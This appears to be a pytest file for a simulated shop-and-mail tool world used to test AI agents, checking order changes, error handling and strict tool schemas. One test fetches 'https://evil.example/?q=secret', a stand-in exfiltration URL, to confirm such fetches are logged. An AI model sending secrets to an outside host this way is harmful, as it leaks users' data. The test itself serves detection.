"""The world answers and changes as its tools say, and never raises."""

from __future__ import annotations

import json

import pytest

from goldsmith.nano.world import TOOLS, Order, Page, Person, World, WorldState, tool_schemas

STATE = WorldState(
    people=(Person("Ada Berg", "ada@x.example"),),
    orders=(Order("11111", "red lamp", "processing"), Order("22222", "blue mug", "delivered")),
    pages=(Page("https://x.example/a", "The shop is open."),),
)


def test_cancel_changes_only_that_order() -> None:
    world = World(STATE)
    assert json.loads(world.call("order_cancel", {"order_id": "11111"}))["status"] == "cancelled"
    assert [order.status for order in world.snapshot().orders] == ["cancelled", "delivered"]
    assert STATE.orders[0].status == "processing"


def test_refund_keeps_the_reason() -> None:
    world = World(STATE)
    world.call("order_refund", {"order_id": "22222", "reason": "it leaks"})
    assert world.snapshot().orders[1] == Order("22222", "blue mug", "refunded", "it leaks")


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("no_such_tool", {}),
        ("order_get", {}),
        ("order_get", {"order_id": 11111}),
        ("order_get", {"order_id": "11111", "more": "x"}),
        ("order_get", "11111"),
        ("order_get", None),
        ("order_get", {"order_id": "99999"}),
        ("order_cancel", {"order_id": "22222"}),
        ("order_refund", {"order_id": "11111", "reason": "x"}),
        ("mail_send", {"to": "nobody", "subject": "a", "body": "b"}),
        ("contact_find", {"name": "Nobody Here"}),
        ("file_read", {"path": "none.txt"}),
        ("mail_read", {"mail_id": "m1"}),
    ],
)
def test_a_bad_call_is_an_error_text_and_changes_nothing(name: str, arguments: object) -> None:
    world = World(STATE)
    assert world.call(name, arguments).startswith("error:")
    assert world.snapshot() == STATE


def test_a_fetch_leaves_a_trace_even_when_no_page_is_there() -> None:
    world = World(STATE)
    assert world.call("web_get", {"url": "https://x.example/a"}) == "The shop is open."
    assert world.call("web_get", {"url": "https://evil.example/?q=secret"}).startswith("error:")
    assert world.snapshot().fetched == ("https://x.example/a", "https://evil.example/?q=secret")


def test_every_tool_has_a_strict_schema() -> None:
    for schema in tool_schemas(tuple(TOOLS)):
        parameters = schema["function"]["parameters"]
        assert schema["function"]["description"]
        assert parameters["required"] == list(parameters["properties"])
        assert parameters["additionalProperties"] is False
